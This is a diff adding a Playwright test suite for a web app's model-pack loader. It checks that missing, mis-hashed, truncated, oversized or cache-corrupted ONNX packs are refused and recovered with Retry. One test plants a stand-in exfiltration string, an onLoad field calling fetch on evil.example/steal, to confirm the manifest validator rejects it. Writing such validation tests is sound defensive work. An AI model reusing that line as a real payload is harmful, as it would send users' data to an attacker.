@@ -1,0 +1,139 @@
+/**
+ * Bad packs, built in the test from public/models/test-tiny by intercepting the requests
+ * (nothing hand-made is committed): each is refused with a message that names the file and
+ * the problem, Retry with the good pack recovers, and a job runs. WASM: the GPU is not the point.
+ */
+import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import type { Page, Route } from '@playwright/test';
+import { expect, test } from './fixtures';
+import { TEST_PACK, testPackGraphs, waitForPack } from './helpers';
+import { expectIntact, expectNextJobRuns, snapshot } from './reliability-helpers';
+
+const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
+const MANIFEST = `**/models/${TEST_PACK}/pack.json`;
+const victim = testPackGraphs().find((g) => g.file === 'unet.onnx') ?? testPackGraphs()[0]!;
+
+type Manifest = { graphs: Record<string, { file: string; bytes: number; sha256: string }> } & Record<string, unknown>;
+
+async function editManifest(page: Page, edit: (m: Manifest) => void): Promise<void> {
+  await page.route(MANIFEST, async (route) => {
+    const response = await route.fetch();
+    const manifest = (await response.json()) as Manifest;
+    edit(manifest);
+    await route.fulfill({ response, body: JSON.stringify(manifest) });
+  });
+}
+
+function graphOf(m: Manifest, file: string) {
+  const graph = Object.values(m.graphs).find((g) => g.file === file);
+  if (!graph) throw new Error(`no ${file} in the manifest`);
+  return graph;
+}
+
+async function serveGraph(page: Page, handler: (route: Route) => Promise<void>): Promise<void> {
+  await page.route(`**/models/${TEST_PACK}/${victim.file}`, handler);
+}
+
+/** Opens the page with the bad pack, checks the refusal, then Retry with the good pack. */
+async function expectRefusedThenRecover(page: Page, message: RegExp): Promise<void> {
+  await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
+  await expect(page.getByTestId('pack-status')).toHaveAttribute('data-status', 'error', { timeout: 120_000 });
+  const banner = page.getByTestId('status-banner');
+  await expect(banner).toHaveAttribute('data-kind', 'PackInvalid');
+  await expect(banner).toContainText(message);
+  const before = await snapshot(page);
+
+  await page.unrouteAll({ behavior: 'ignoreErrors' });
+  await banner.getByRole('button', { name: 'Retry' }).click();
+  await waitForPack(page);
+  await expect(banner).toBeHidden();
+  await expectIntact(page, before, { params: false });
+  await expectNextJobRuns(page);
+}
+
+test.describe('packs', () => {
+  test.beforeEach(async ({ page }) => {
+    // A clean cache: a cached good copy must not hide the bad file.
+    await page.goto('/?ep=wasm&pack=none-at-all');
+    await page.evaluate(() => caches.delete('realcustom-packs-v1'));
+  });
+
+  test('a missing file', async ({ page }) => {
+    await serveGraph(page, (route) => route.fulfill({ status: 404, body: 'not found' }));
+    await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTTP 404`));
+  });
+
+  test('a wrong hash in the manifest', async ({ page }) => {
+    await editManifest(page, (m) => (graphOf(m, victim.file).sha256 = '0'.repeat(64)));
+    await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*sha256`));
+  });
+
+  test('a manifest with wrong shapes and unknown fields', async ({ page }) => {
+    await editManifest(page, (m) => {
+      (m.latent as { shape: number[] }).shape = [12, 16];
+      m.onLoad = 'fetch("https://evil.example/steal")';
+    });
+    await expectRefusedThenRecover(page, /pack\.json.*does not follow the pack contract/);
+  });
+
+  test('a truncated ONNX file whose manifest matches it', async ({ page }) => {
+    // The manifest describes the cut file (size, hash), so only ONNX parsing can tell.
+    const half = readFileSync(`public/models/${TEST_PACK}/${victim.file}`).subarray(0, Math.floor(victim.bytes / 2));
+    await serveGraph(page, async (route) => route.fulfill({ status: 200, body: half }));
+    await editManifest(page, (m) =>
+      Object.assign(graphOf(m, victim.file), { bytes: half.length, sha256: sha256(half) }),
+    );
+    await expectRefusedThenRecover(page, new RegExp(victim.file));
+  });
+
+  test('an HTML page served where a model was expected', async ({ page }) => {
+    await serveGraph(page, (route) =>
+      route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><html><body>App</body></html>' }),
+    );
+    await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTML`, 'i'));
+  });
+
+  test('a pack far larger than the device allows is refused before any download', async ({ page }) => {
+    let graphRequests = 0;
+    page.on('request', (r) => void (new URL(r.url()).pathname.endsWith('.onnx') && graphRequests++));
+    await editManifest(page, (m) => (graphOf(m, victim.file).bytes = 1.9 * 1024 ** 3));
+    await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
+    await expect(page.getByTestId('pack-status')).toHaveAttribute('data-status', 'error', { timeout: 120_000 });
+    await expect(page.getByTestId('status-banner')).toContainText(/GB|MB|memory|limit/i);
+    expect(graphRequests, 'no graph downloaded').toBe(0);
+    await page.unrouteAll({ behavior: 'ignoreErrors' });
+    await page.getByTestId('status-banner').getByRole('button', { name: 'Retry' }).click();
+    await waitForPack(page);
+    await expectNextJobRuns(page);
+  });
+
+  test('a stale cache entry is detected by its hash and fetched again', async ({ page }) => {
+    await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
+    await waitForPack(page);
+    // Damage the cached copy of one graph, as a write cut short or an old entry would.
+    const key = await page.evaluate(async (sha) => {
+      const cache = await caches.open('realcustom-packs-v1');
+      const key = `${location.origin}/__pack-cache__/sha256/${sha}`;
+      const old = await cache.match(key);
+      if (!old) throw new Error('the graph is not cached');
+      const bytes = new Uint8Array(await old.arrayBuffer());
+      bytes[bytes.length >> 1]! ^= 0xff;
+      await cache.put(key, new Response(bytes));
+      return key;
+    }, victim.sha256);
+
+    const refetched: string[] = [];
+    page.on('request', (r) => void (new URL(r.url()).pathname.endsWith('.onnx') && refetched.push(r.url())));
+    await page.reload();
+    await waitForPack(page);
+    expect(refetched.map((u) => new URL(u).pathname.split('/').pop())).toEqual([victim.file]);
+    const healed = await page.evaluate(async (k) => {
+      const res = await (await caches.open('realcustom-packs-v1')).match(k);
+      const digest = await crypto.subtle.digest('SHA-256', await res!.arrayBuffer());
+      return [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, '0')).join('');
+    }, key);
+    expect(healed).toBe(victim.sha256);
+    await expectNextJobRuns(page);
+  });
+});
